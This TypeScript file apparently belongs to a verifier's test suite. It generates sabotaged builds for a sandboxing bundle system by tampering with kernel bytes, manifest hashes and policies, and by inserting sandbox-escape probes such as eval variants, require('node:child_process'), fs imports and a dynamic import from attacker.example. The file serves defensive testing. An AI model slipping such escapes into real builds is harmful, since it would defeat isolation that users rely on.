// Sabotages of a good build: each takes something away from what `verify` must prove. What a sabotage changes is sealed again
// - the manifest gets the new hash - unless the missing seal is the point: the bundler, a plugin or a minifier would have
// done it before the hash was taken.

import { createHash } from "node:crypto";
import { type Node, type Program, parse } from "acorn";
import { analyze } from "eslint-scope";

export interface SabotagedBuild {
  /** By path. */
  readonly files: ReadonlyMap<string, string>;
  readonly manifest: Manifest;
}

export interface Manifest {
  kernel: { sha256: string; options: Record<string, unknown> };
  bundler: string;
  outputs: { path: string; sha256: string; kind: string; entry?: boolean }[];
  imports: string[];
  packages: { canonicalName: string; modules: { chunks: string[] }[] }[];
  policySha256: string;
  policy: { resources: Record<string, Record<string, Record<string, unknown>>> };
}

export type Random = () => number;

/** Sabotages a build; undefined where the build has nothing of the kind. */
export type Sabotage = (build: SabotagedBuild, random: Random) => SabotagedBuild | undefined;

const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");

const pick = <Item>(items: readonly Item[], random: Random): Item | undefined =>
  items[Math.floor(random() * items.length)];

const codePaths = ({ manifest }: SabotagedBuild): readonly string[] =>
  manifest.outputs.flatMap(({ path, kind }) =>
    kind === "data" || kind === "kernel" ? [] : [path],
  );

const copy = (manifest: Manifest): Manifest => structuredClone(manifest);

/** The build with another text of one file; `isSealed`: the manifest has its new hash. */
const withText = (
  { files, manifest }: SabotagedBuild,
  path: string,
  text: string,
  isSealed = true,
): SabotagedBuild => {
  const changed = copy(manifest);
  const output = changed.outputs.find((each) => each.path === path);
  if (isSealed && output !== undefined) output.sha256 = sha256(text);
  return { files: new Map([...files, [path, text]]), manifest: changed };
};

/** Edits one file of code; undefined where the edit changes nothing in any. */
export const edit =
  (
    change: (text: string, random: Random, kind: string) => string | undefined,
    isSealed = true,
  ): Sabotage =>
  (build, random) => {
    const paths = codePaths(build);
    const start = Math.floor(random() * paths.length);
    // From a random one on, the first that has what is sabotaged.
    for (const path of [...paths.slice(start), ...paths.slice(0, start)]) {
      const text = build.files.get(path) ?? "";
      const kind = build.manifest.outputs.find((each) => each.path === path)?.kind ?? "";
      const changed = change(text, random, kind);
      if (changed !== undefined && changed !== text)
        return withText(build, path, changed, isSealed);
    }
    return undefined;
  };

const replaceOne =
  (pattern: RegExp, by: string): ((text: string, random: Random) => string | undefined) =>
  (text, random) => {
    const found = pick([...text.matchAll(pattern)], random);
    if (found === undefined) return undefined;
    const { 0: whole, index } = found;
    return (
      text.slice(0, index) +
      whole.replace(new RegExp(pattern.source), by) +
      text.slice(index + whole.length)
    );
  };

/** Where the code begins: after the line that holds or imports the kernel. */
export const codeStart = (text: string): number =>
  text.indexOf("\n", text.indexOf("ulkheadKernel_")) + 1;

const children = (node: object): readonly Node[] =>
  Object.values(node)
    .flat()
    .filter(
      (each): each is Node =>
        typeof each === "object" && each !== null && "type" in each && "start" in each,
    );

const statementStarts = (node: Node, found: number[]): number[] => {
  const { body } = node as unknown as { body?: unknown };
  if ((node.type === "Program" || node.type === "BlockStatement") && Array.isArray(body))
    for (const each of body as Node[]) found.push(each.start);
  for (const child of children(node)) statementStarts(child, found);
  return found;
};

const NAME = /[A-Za-z_$][\w$]*/g;

/** Where none of the names of a statement is a variable of the code: there it would be another program, and a good one. */
const placesFor = (statement: string, program: Program): readonly number[] => {
  const { scopes } = analyze(program as unknown as Parameters<typeof analyze>[0], {
    ecmaVersion: 2024,
    sourceType: program.sourceType,
    ignoreEval: true,
  });
  const names = new Set(statement.match(NAME));
  const taken = scopes
    .filter(({ set }) =>
      [...set.values()].some(({ name, defs }) => defs.length > 0 && names.has(name)),
    )
    .map(({ block }) => block as unknown as Node);
  return statementStarts(program, []).filter((offset) =>
    taken.every(({ start, end }) => offset < start || end <= offset),
  );
};

/** Puts a statement in front of another one, anywhere in the code. */
const insert = (
  statement: string,
  kinds: readonly string[] = ["script", "commonjs", "module"],
): Sabotage =>
  edit((text, random, kind) => {
    if (!kinds.includes(kind)) return undefined;
    const start = codeStart(text);
    // A script's last line closes its block.
    const code = kind === "script" ? text.slice(start).replace(/\}\s*$/, "") : text.slice(start);
    const program = parse(code, {
      ecmaVersion: "latest",
      ranges: true,
      sourceType: kind === "module" ? "module" : "script",
    });
    const offset = start + (pick(placesFor(statement, program), random) ?? 0);
    return `${text.slice(0, offset)}${statement}${text.slice(offset)}`;
  });

/** Puts a line in front of the code, at the top of its scope. */
const insertAtTop = (
  line: string,
  kinds: readonly string[] = ["script", "commonjs", "module"],
): Sabotage =>
  edit((text, _, kind) => {
    const start = codeStart(text);
    return kinds.includes(kind)
      ? `${text.slice(0, start)}${line}\n${text.slice(start)}`
      : undefined;
  });

export const withManifest =
  (change: (manifest: Manifest, random: Random) => boolean | void): Sabotage =>
  ({ files, manifest }, random) => {
    const changed = copy(manifest);
    return change(changed, random) === false ? undefined : { files, manifest: changed };
  };

// A name that no policy grants, in positions that a resolver of names may forget.
const FREE_NAMES: readonly string[] = [
  "fetch('x');",
  "void typeof fetch;",
  "fetch = 1;",
  "[fetch] = [1];",
  "({ a: fetch } = {});",
  "for (fetch of []) ;",
  "for (fetch in {}) ;",
  "fetch++;",
  "delete fetch.x;",
  "(function (a = fetch) {});",
  "((a = fetch) => a);",
  "({ fetch });",
  "({ [fetch]: 1 });",
  "({ get a() { return fetch; } });",
  "((a = fetch) => { var fetch; a; });",
  "((a = () => fetch) => { var fetch; a; });",
  "(function (a = () => fetch) { function fetch() {} a; });",
  "(class { static a = () => fetch; static fetch() {} });",
  "(class { [(() => fetch)()] = 1; });",
  "(function f(a, { b } = fetch) {});",
  "(({ [fetch]: a }) => a);",
  "(class extends fetch {});",
  "(class { [fetch]() {} });",
  "(class { a = fetch; });",
  "(class { static { fetch(); } });",
  "(class { static #a = fetch; });",
  "fetch`x`;",
  "`${fetch}`;",
  "fetch?.();",
  "new fetch();",
  "[...fetch];",
  "try { throw 1; } catch ({ a = fetch }) {}",
  "label: { fetch(); }",
  "switch (fetch) { }",
  "switch (1) { case fetch: }",
  "(async () => { for await (const a of fetch) ; });",
  "(function* () { yield* fetch; });",
  "{ let { a = fetch } = {}; }",
  "if (false) {} else fetch();",
  "if (0 && 1) {} fetch();",
  "0 || fetch();",
  "1 && fetch();",
  "f\\u0065tch();",
  "f\\u{65}tch();",
  "{ var fetched = fetch; }",
  "(function fetch2() { return fetch; });",
  "(() => { { function fetch() {} } return fetch; });",
  "(() => { try { throw 1; } catch (fetch) {} fetch(); });",
  "(() => { for (let fetch = 0; false; ) ; return fetch; });",
  "(() => { (function fetch() {}); return fetch; });",
  "(() => { (class fetch {}); return fetch; });",
  "window;",
  "document.title;",
  "process.exit;",
  "globalThis.x;",
  "self;",
  "Function('return this')();",
  "Compartment;",
  "setTimeout('x');",
  "Date.now();",
  "Error.prepareStackTrace;",
  "RegExp('');",
  "canary(1);",
];

const HOSTILE_CODE: readonly (readonly [code: string, kinds?: readonly string[]])[] = [
  ["eval('1');"],
  ["(0, eval)('1');"],
  ["{ const evaluate = eval; }"],
  ["eval?.('1');"],
  ["Object = 1;"],
  ["Array++;"],
  ["[Promise] = [];"],
  ["with ({}) ;"],
  ["010;"],
  ["'\\01';"],
  ["delete Object;"],
  ["import('https://attacker.example/x.js');"],
  ["import(Object.name);"],
  ["import('node:fs');"],
  ["import('./nowhere.js');"],
  ["import(`node:fs`);"],
  ["import('./compartment-map.json', { with: { type: 'json' } });"],
  ["({ a() { return import('node:fs'); } });"],
  ["import.meta.resolve('x');", ["module"]],
  ["({ meta: import.meta });", ["module"]],
  ["import.meta.url = '';", ["module"]],
  ["import.meta.url++;", ["module"]],
  ["[import.meta.url] = ['x'];", ["module"]],
  ["({ a: import.meta.url } = {});", ["module"]],
  ["for (import.meta.url of []) ;", ["module"]],
  ["delete import.meta.url;", ["module"]],
  ["(({ resolve }) => resolve)(import.meta);", ["module"]],
  ["import.meta['url'];", ["module"]],
  ["require('fs');", ["commonjs"]],
  ["require('node:child_process');", ["commonjs"]],
  ["require(Object.name);", ["commonjs"]],
  ["require.cache;", ["commonjs"]],
  ["typeof require;", ["commonjs"]],
  ["({ require });", ["commonjs"]],
  ["require('./index.js', 1);", ["commonjs"]],
  ["module.constructor;", ["commonjs"]],
  ["module.require('fs');", ["commonjs"]],
  ["module['exports'];", ["commonjs"]],
  ["({ module });", ["commonjs"]],
];

// At the top of a file, where no function is around.
const AT_TOP: readonly (readonly [code: string, kinds?: readonly string[]])[] = [
  ["var globalThis = { Map: 1 };", ["commonjs", "module"]],
  ["var NaN = 1;", ["commonjs", "module"]],
  ["let globalThis;", ["commonjs", "module"]],
  ["class globalThis {}", ["script", "commonjs", "module"]],
  ["function globalThis() {}", ["script", "commonjs", "module"]],
  ["{ var globalThis; }", ["script", "commonjs", "module"]],
  ["const { globalThis } = {};"],
  ["var fetch; fetch();", ["script"]],
  ["{ var { document } = {}; } (() => document)();", ["script"]],
  ["arguments;"],
  ["({}).a = this;"],
  ["(() => this)();"],
  ["(async () => { await this; })();"],
  ["({ [this]: 1 });"],
  ["class A { [this]() {} }"],
  ["class B extends this {}"],
  ["(() => () => (() => this)())();"],
  ["<!-- a comment", ["script", "commonjs"]],
  ["--> a comment", ["script", "commonjs"]],
  ["/* a */ --> a comment", ["script", "commonjs"]],
  ["(function (a, b) { return a<!--b; });", ["module"]],
  ["import 'https://attacker.example/x.js';", ["module"]],
  ["import * as fs from 'node:fs';", ["module"]],
  ["import { readFileSync } from 'node:fs';", ["module"]],
  ["export * from 'node:fs';", ["module"]],
  ["export { default as stolen } from 'node:fs';", ["module"]],
  ["import './nowhere.js';", ["module"]],
  ["import '../outside.js';", ["module"]],
  ["import data from 'data:text/javascript,canary()';", ["module"]],
];

/** The texts of esbuild's function around `require`, which an attacker may write as well. */
const WRAPPER =
  'var stolen = ((x) => typeof require !== "undefined" ? require : typeof Proxy !== "undefined" ? new Proxy(x, { get: (a, b) => (typeof require !== "undefined" ? require : a)[b] }) : x)(function(x) { if (typeof require !== "undefined") return require.apply(this, arguments); throw Error(\'Dynamic require of "\' + x + \'" is not supported\'); });';

const WITH_WRAPPER: readonly string[] = [
  `${WRAPPER} stolen("fs");`,
  `${WRAPPER} ({}).leak = stolen;`,
  `${WRAPPER} stolen.cache;`,
  `${WRAPPER} stolen(Object.name);`,
  `${WRAPPER} stolen = 1;`,
  WRAPPER.replace("var stolen =", "({}).stolen ="),
  WRAPPER.replace("return require.apply(this, arguments)", "return require"),
  WRAPPER.replace("[b] })", "[b], has: () => fetch })"),
];

const KERNEL = /bulkheadKernel_[0-9a-f]{16}/;

const kernelUse = (use: (name: string) => string): Sabotage =>
  edit((text, random, kind) => {
    const name = KERNEL.exec(text)?.[0];
    if (name === undefined) return undefined;
    const built = insert(use(name), [kind])(
      {
        files: new Map([["x", text]]),
        manifest: { outputs: [{ path: "x", sha256: "", kind }] } as unknown as Manifest,
      },
      random,
    );
    return built?.files.get("x");
  });

/** The local name that a file gives to a member of the kernel. */
const localName = (text: string, member: string): string | undefined =>
  new RegExp(`\\b${member}(?:\\s*:\\s*([\\w$]+))?\\s*[,}]`).exec(text)?.[1] ??
  (new RegExp(`[{,]\\s*${member}\\s*[,}]`).test(text) ? member : undefined);

const powerUse = (member: string, use: (name: string) => string): Sabotage =>
  edit((text, _random, kind) => {
    if (!text.includes("ulkheadKernel_")) return undefined;
    const name = localName(text.slice(codeStart(text)), member);
    if (name === undefined) return undefined;
    const start = codeStart(text);
    // Where the name is in scope: beside another call of it.
    const call = new RegExp(`[^\\w$.]${name.replaceAll("$", "\\$")}\\(`).exec(text.slice(start));
    if (call === null) return undefined;
    const offset = start + call.index + 1;
    return kind === ""
      ? undefined
      : `${text.slice(0, offset)}(${use(name)},0)||${text.slice(offset)}`;
  });

const changeByte = (text: string, offset: number): string =>
  text.slice(0, offset) + String.fromCharCode(text.charCodeAt(offset) ^ 1) + text.slice(offset + 1);

const openingOf = (text: string): string => text.slice(0, codeStart(text));

// A chunk of webpack's that may run at any time begins with no more than strictness.
const hasOpening = (text: string): boolean => openingOf(text).includes("bulkhead");

const STRUCTURAL: readonly (readonly [string, Sabotage])[] = [
  ["drops strictness", edit((text) => text.replace('"use strict";', ""))],
  [
    "makes strictness no directive",
    edit((text) => text.replace('"use strict";', '0,"use strict";')),
  ],
  [
    "edits one byte of the kernel",
    edit((text, random) => changeByte(text, Math.floor(random() * (codeStart(text) - 1)))),
  ],
  [
    "takes the kernel away",
    edit((text) => (hasOpening(text) ? text.slice(codeStart(text)) : undefined)),
  ],
  [
    "moves the kernel to the end",
    edit((text) => (hasOpening(text) ? text.slice(codeStart(text)) + openingOf(text) : undefined)),
  ],
  [
    "puts the kernel there twice",
    edit((text) => (hasOpening(text) ? openingOf(text) + text : undefined)),
  ],
  ["puts code before the kernel", edit((text) => `({}).first = 1;\n${text}`)],
  [
    "puts code on the kernel's line",
    edit((text) => text.replace(/const bulkhead|import\{bulkhead/, "0;$&")),
  ],
  ["puts code behind the kernel on its line", edit((text) => text.replace("\n", ";0\n"))],
  [
    "starts the kernel with other options",
    edit((text) => text.replace('"lockdown":{', '"lockdown":{"errorTaming":"unsafe",')),
  ],
  [
    "lets globals be written",
    edit((text) => text.replace('"writtenGlobals":[', '"writtenGlobals":["fetch"')),
  ],
  [
    "ends a script's block early",
    edit((text, _, kind) => (kind === "script" ? text.replace(/\}\s*$/, "}{0}\n") : undefined)),
  ],
  [
    "takes the end of a script's block",
    edit((text, _, kind) => (kind === "script" ? text.replace(/\}\s*$/, "") : undefined)),
  ],
  [
    "unhooks a rewrite",
    edit(
      replaceOne(
        /\((?:\w+, )?[\w$]+\.(console|fetch)\)|\b(?:globals|names)\d*\.(console|fetch)\b/g,
        "$1$2",
      ),
    ),
  ],
  [
    "unhooks a common intrinsic",
    edit(replaceOne(/(?<!\.)\bcommons\.(Date|Error|RegExp)\b/g, "$1")),
  ],
  ["gives a compartment a global", edit(replaceOne(/("?globals"?:\s*\{)/g, '$1"canary":!0,'))],
  [
    "lets a compartment evaluate",
    edit((text) => text.replace(/("?mayEvaluate"?:\s*)(?:false|!1)/, "$1true")),
  ],
  [
    "makes a compartment the root's",
    edit((text) => text.replace(/("?mayEvaluate"?:\s*(?:false|!1))/, "$1,isRoot:!0")),
  ],
  [
    "makes a compartment under another's name",
    edit((text) => text.replace(/("?name"?:\s*")(?:reader|esm-package)"/, '$1nobody"')),
  ],
  [
    "makes a compartment from a variable",
    edit((text) => text.replace(/(\(\{\s*"?name"?:\s*"reader"[^}]*\}[^}]*\})\)/, "$1,{})")),
  ],
  [
    "spreads into a compartment's options",
    edit((text) => text.replace(/\{\s*"?name"?:\s*"reader"/, '{...{},name:"reader"')),
  ],
  [
    "sets the prototype of a compartment's options",
    edit((text) =>
      text.replace(/\{\s*"?name"?:\s*"reader"/, '{__proto__:{isRoot:!0},name:"reader"'),
    ),
  ],
  [
    "says a compartment's option twice",
    edit((text) => text.replace(/\{\s*"?name"?:\s*"reader"/, '{mayEvaluate:!0,name:"reader"')),
  ],
  ["widens a view", edit((text) => text.replace(/(\["platform")\]/, '$1,"exec"]'))],
  ["views a builtin whole", edit((text) => text.replace(/\["platform"\]/, "true"))],
  [
    "views another builtin under the name",
    edit((text) => text.replace(/"node:os"/g, '"node:child_process"')),
  ],
  ["loses what a view denies", edit((text) => text.replace(/("os",\s*\[[^\]]*\]),\s*\[\]/, "$1"))],
  [
    "swaps two chunks",
    (build) => {
      const [one, other] = codePaths(build).filter((path) => build.files.get(path) !== undefined);
      if (one === undefined || other === undefined) return undefined;
      return {
        files: new Map([
          ...build.files,
          [one, build.files.get(other) ?? ""],
          [other, build.files.get(one) ?? ""],
        ]),
        manifest: build.manifest,
      };
    },
  ],
  [
    "edits one byte and leaves the hash",
    edit((text, random) => changeByte(text, Math.floor(random() * text.length)), false),
  ],
  [
    "leaves a file away",
    (build, random) => {
      const path = pick(codePaths(build), random) ?? "";
      return { ...build, files: new Map([...build.files].filter(([each]) => each !== path)) };
    },
  ],
  [
    "adds a file",
    (build) => ({ ...build, files: new Map([...build.files, ["extra.js", "canary();"]]) }),
  ],
  [
    "edits one byte of the kernel's own file",
    (build, random) => {
      const path = build.manifest.outputs.find(({ kind }) => kind === "kernel")?.path;
      const text = build.files.get(path ?? "");
      return path === undefined || text === undefined
        ? undefined
        : withText(build, path, changeByte(text, Math.floor(random() * text.length)));
    },
  ],
  [
    "adds to the kernel's own file",
    (build) => {
      const path = build.manifest.outputs.find(({ kind }) => kind === "kernel")?.path;
      return path === undefined
        ? undefined
        : withText(build, path, `${build.files.get(path) ?? ""}canary();\n`);
    },
  ],
  [
    "imports something before the kernel",
    edit((text) => (text.includes("import{bulkhead") ? `import "./${"x"}.js";${text}` : undefined)),
  ],
];

const MANIFEST: readonly (readonly [string, Sabotage])[] = [
  [
    "grants in the manifest's policy",
    withManifest(({ policy }) => void (policy.resources["reader"] = { globals: { canary: true } })),
  ],
  [
    "grants there and seals the policy",
    withManifest((manifest) => {
      manifest.policy.resources["reader"] = {
        ...manifest.policy.resources["reader"],
        globals: { canary: true },
      };
      manifest.policySha256 = sha256(`${JSON.stringify(manifest.policy, null, 2)}\n`);
    }),
  ],
  ["names another kernel", withManifest(({ kernel }) => void (kernel.sha256 = sha256("")))],
  [
    "states other options",
    withManifest(({ kernel }) => void (kernel.options["writtenGlobals"] = ["fetch"])),
  ],
  [
    "states an unknown option",
    withManifest(({ kernel }) => void (kernel.options["report"] = true)),
  ],
  [
    "takes an output for data",
    withManifest(({ outputs }, random) => {
      const output = pick(
        outputs.filter(({ kind }) => kind !== "kernel" && kind !== "data"),
        random,
      );
      if (output === undefined) return false;
      output.kind = "data";
      return undefined;
    }),
  ],
  [
    "takes a module for a script",
    withManifest(({ outputs }) => {
      const output = outputs.find(({ kind }) => kind === "module");
      if (output === undefined) return false;
      output.kind = "script";
      return undefined;
    }),
  ],
  ["leaves an output away", withManifest(({ outputs }) => void outputs.pop())],
  [
    "leaves a package away",
    withManifest(({ packages }) => {
      const index = packages.findIndex(({ canonicalName }) => canonicalName === "reader");
      packages.splice(index, 1);
    }),
  ],
  [
    "moves modules to no output",
    withManifest(({ packages }) => {
      const [module] = packages[0]?.modules ?? [];
      module?.chunks.push("nowhere.js");
    }),
  ],
  ["names another bundler", withManifest((manifest) => void (manifest.bundler = "unknown"))],
];

const title = (code: string): string => (code.length > 60 ? `${code.slice(0, 60)}…` : code);

/** All sabotages, each with a title. */
export const SABOTAGES: readonly (readonly [string, Sabotage])[] = [
  ...STRUCTURAL,
  ...MANIFEST,
  ...FREE_NAMES.map((code) => [`inserts ${code}`, insert(code)] as const),
  ...HOSTILE_CODE.map(([code, kinds]) => [`inserts ${code}`, insert(code, kinds)] as const),
  ...AT_TOP.map(([code, kinds]) => [`begins with ${code}`, insertAtTop(code, kinds)] as const),
  ...WITH_WRAPPER.map((code) => [`inserts ${title(code)}`, insertAtTop(code)] as const),
  ...[
    (name: string) => `({}).kernel = ${name};`,
    (name: string) =>
      `${name}.makeCompartment({ name: "evil", globals: {}, mayEvaluate: true, isRoot: true });`,
    (name: string) => `${name}["makeCompartment"];`,
    (name: string) => `({ ...${name} });`,
    (name: string) => `{ const { makeCompartment: stolen } = ${name}; ({}).x = stolen; }`,
    (name: string) => `{ const { ...rest } = ${name}; }`,
    (name: string) => `{ const { makeCompartment: stolen = 1 } = ${name}; }`,
    (name: string) => `{ const { futurePower } = ${name}; }`,
    (name: string) => `{ let stolen = ${name}.viewBuiltin; stolen = stolen; }`,
    (name: string) => `(() => ${name})();`,
  ].map((use) => [`inserts ${use("kernel")}`, kernelUse(use)] as const),
  ...[
    (name: string) => `({ ${name} })`,
    (name: string) => `[${name}]`,
    (name: string) => `${name}({})`,
    (name: string) => `${name}?.({})`,
    (name: string) => `${name}.call(null, {})`,
    (name: string) => `(() => ${name})`,
    (name: string) => `Object(${name})`,
    (name: string) => `${name}(...[{}])`,
    (name: string) => `new ${name}({})`,
    (name: string) => `${name}\`x\``,
  ].flatMap((use) =>
    ["makeCompartment", "viewBuiltin"].map(
      (member) => [`does ${use(member)}`, powerUse(member, use)] as const,
    ),
  ),
];
